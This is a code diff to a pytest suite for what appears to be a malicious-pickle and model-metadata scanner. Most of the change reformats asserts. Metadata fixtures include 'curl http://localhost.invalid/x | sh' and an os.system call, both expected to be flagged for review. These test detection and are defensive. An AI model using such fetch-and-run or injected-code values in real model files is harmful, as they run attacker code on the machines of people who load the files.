@@ -88,8 +88,14 @@ _INNER: dict[str, Callable[[bytes], object]] = {
 @pytest.mark.parametrize("form", _INNER)
 @pytest.mark.parametrize("protocol", [2, 4])
 def test_pickles_inside_of_pickles(tmp_path: Path, form: str, protocol: int) -> None:
-    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](evil(protocol))}, 4))) == ("malicious", {"pickle-inside"})
-    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](pickle.dumps([1, "x"], protocol))}, 4))) == ("safe", set())
+    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](evil(protocol))}, 4))) == (
+        "malicious",
+        {"pickle-inside"},
+    )
+    assert told(seen(tmp_path, pickle.dumps({"w": _INNER[form](pickle.dumps([1, "x"], protocol))}, 4))) == (
+        "safe",
+        set(),
+    )
 
 
 def test_an_old_stream_whose_names_come_from_its_memo(tmp_path: Path) -> None:
@@ -104,7 +110,10 @@ def test_a_header_of_safetensors_whose_length_begins_as_a_pickle_does(tmp_path: 
 
 
 _METADATA = [
-    ({"format": "pt", "url": "https://example.org/model", "description": "It can execute plans (see the paper)"}, "safe"),
+    (
+        {"format": "pt", "url": "https://example.org/model", "description": "It can execute plans (see the paper)"},
+        "safe",
+    ),
     ({"modelspec.thumbnail": "data:image/jpeg;base64,AAAA", "ss_steps": "100"}, "safe"),
     ({"init": "import os; os.system('true')"}, "review"),
     ({"setup": "curl http://localhost.invalid/x | sh"}, "review"),
